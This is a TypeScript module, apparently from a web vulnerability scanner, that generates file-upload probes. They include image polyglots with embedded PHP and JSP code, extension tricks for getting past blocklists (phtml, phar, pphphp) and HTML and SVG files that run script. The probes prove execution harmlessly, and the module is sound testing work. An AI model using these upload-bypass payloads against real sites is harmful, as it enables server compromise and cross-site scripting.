import type { Surface } from '../../model/surface.ts';
import { textOfBytes } from '../../model/wire-bytes.ts';
import type { UploadedFile } from '../inputs/input-request.ts';

/** A file that does something where it is kept, and shows that it did; the same file without what makes it do so. */
export type ActiveFile = {
  file: UploadedFile;
  inert: UploadedFile;
  /** Run by the server, with what its page shows then; or opened as a page of the site, which opens a dialog. */
  effect: { runs: string } | 'opens';
  /** What was seen, in words. */
  detail: string;
};

/** Its name distinguishes it from what others have sent. */
const name = '‹nonce3›';
type Picture = { type: string; content: string };

const bytes = (base64: string): string => textOfBytes(Buffer.from(base64, 'base64'));
/** Pictures of one point, for sites that look at what is in a file; programs that show them skip what stands behind. */
const gif: Picture = {
  type: 'image/gif',
  content: bytes('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'),
};
const png: Picture = {
  type: 'image/png',
  content: bytes('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
};
/** Some sites look at the type that the browser says: of photos, which most lists of types have. */
const photo: Picture = { ...gif, type: 'image/jpeg' };

/** What the page says that it takes, where that is no photo. */
function pictureFor(accept: string): Picture {
  const takes = (kind: RegExp) => accept.split(',').some((each) => kind.test(each.trim()));
  if (accept === '' || takes(/^(?:image\/(?:\*|p?jpe?g)|\.jpe?g|\*\/\*)$/i)) return photo;
  return (
    [gif, png].find(({ type }) => takes(new RegExp(`^(?:${type}|${type.replace('image/', '[.]')})$`, 'i'))) ?? photo
  );
}

type Code = { language: string; write(begin: string): string };

const run = (ending: string, { language, write }: Code, { type, content }: Picture): ActiveFile => {
  const file = (begin: string): UploadedFile => ({
    ...{ name: `${name}.${ending}`, type },
    content: `${content}‹nonce›${write(begin)}‹nonce2›`,
  });
  return {
    file: file('?'),
    inert: file('q'),
    effect: { runs: '‹nonce›‹product:int:int2›‹nonce2›' },
    detail: `The server runs a file that ends in ".${ending}" as ${language}.`,
  };
};

/** The short form of a print, which filters of "<?php" do not know. */
const php: Code = { language: 'PHP', write: (begin) => `<${begin}=‹int›*‹int2›?>` };
/** What is run, what lists of refused endings forget or have in small letters alone, what has the endings of pictures somewhere, what ends in one, and what is one when "php" is taken out of it, once. */
const phpFiles = (picture: Picture): ActiveFile[] => [
  ...['php', 'jpg.png.gif.php', 'phtml', 'PHP', 'php.jpg', 'jpg.png.gif.phtml', 'phar', 'pphphp', 'p.phphp'].map(
    (ending) => run(ending, php, picture),
  ),
  ...['php', 'jpg.png.php'].map((ending) => run(ending, php, png)),
];
const jsp: Code = { language: 'JSP', write: (begin) => `<${begin.replace('?', '%')}= ‹int›*‹int2› %>` };

const opened = (ending: string, type: string, write: (script: string) => string): ActiveFile => {
  const file = (script: string): UploadedFile => ({ name: `${name}.${ending}`, type, content: write(script) });
  return {
    file: file("alert('‹nonce›')"),
    inert: file("void '‹nonce›'"),
    effect: 'opens',
    detail: `A file that ends in ".${ending}" is opened as a page of the site, and its script is run.`,
  };
};

const html = opened('html', 'text/html', (script) => `<!doctype html><title>a</title><script>${script}</script>`);
const svg = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`,
);

/** Where the element of a script is taken for the only way. */
const loaded = opened(
  'svg',
  'image/svg+xml',
  (script) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><path d="M0 0h8v8z"/></svg>`,
);

/** Files to try, by what the site seems to be made with. @param accept kinds of files that the page says to take */
export function filesFor({ pages }: Surface, accept = ''): ActiveFile[] {
  const picture = pictureFor(accept);
  const isOf = (path: RegExp, header: RegExp): boolean =>
    pages.some(
      ({ url, headers, setCookies }) =>
        path.test(new URL(url).pathname) ||
        setCookies.some((cookie) => header.test(cookie)) ||
        headers.some(([field, value]) => /^(?:x-powered-by|server)$/i.test(field) && header.test(value)),
    );
  if (isOf(/\.php\d?(?:\/|$)/i, /\bphp/i)) return [...phpFiles(picture), svg, loaded, html];
  if (isOf(/\.(?:jspx?|do)(?:;|$)/i, /\b(?:jsp|servlet|jsessionid|tomcat|jetty)/i))
    return [run('jsp', jsp, picture), svg, loaded, html];
  return [html, svg, loaded];
}
